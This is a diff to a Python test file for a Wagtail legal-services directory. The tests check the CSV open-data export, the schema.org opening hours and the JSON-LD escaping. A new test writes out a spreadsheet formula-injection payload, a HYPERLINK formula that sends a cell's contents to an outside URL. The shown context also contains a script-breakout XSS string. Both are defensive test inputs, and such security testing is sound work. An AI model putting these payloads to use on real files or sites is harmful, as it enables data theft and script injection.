@@ -398,16 +398,24 @@ class DirectoryTest(WagtailPageTestCase):
         self.assertEqual(by_name["社区法治工作室"]["services"], "矛盾调解；法律援助")
         self.assertTrue(by_name["调解室"]["opening_hours"].startswith("MO 00:00-24:00"))
 
+    def test_an_entry_cannot_become_a_spreadsheet_formula(self):
+        self.near.address = '=HYPERLINK("http://example.com/?d="&A1,"点击")'
+        self.near.save_revision().publish()
+        response = self.client.get(self.directory.url + "open-data/csv/")
+        rows = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
+        by_name = {row["name"]: row for row in rows}
+        self.assertEqual(by_name["调解室"]["address"], "'" + self.near.address)
+
     def test_point_page_carries_schema_org_json_ld(self):
         page = soup(self.client.get(self.near.url))
         data = json.loads(page.find("script", type="application/ld+json").string)
         self.assertEqual(data["@type"], "LegalService")
         self.assertEqual(data["geo"]["latitude"], 32.392)
         self.assertEqual(len(data["openingHoursSpecification"]), 7)
-        self.assertEqual(
-            data["openingHoursSpecification"][0]["dayOfWeek"],
-            "https://schema.org/Monday",
-        )
+        monday = data["openingHoursSpecification"][0]
+        self.assertEqual(monday["dayOfWeek"], "https://schema.org/Monday")
+        # Open around the clock: schema.org's times have no 24:00.
+        self.assertEqual((monday["opens"], monday["closes"]), ("00:00", "23:59"))
 
     def test_json_ld_cannot_break_out_of_its_script_element(self):
         self.near.summary = "</script><script>alert(1)</script>"
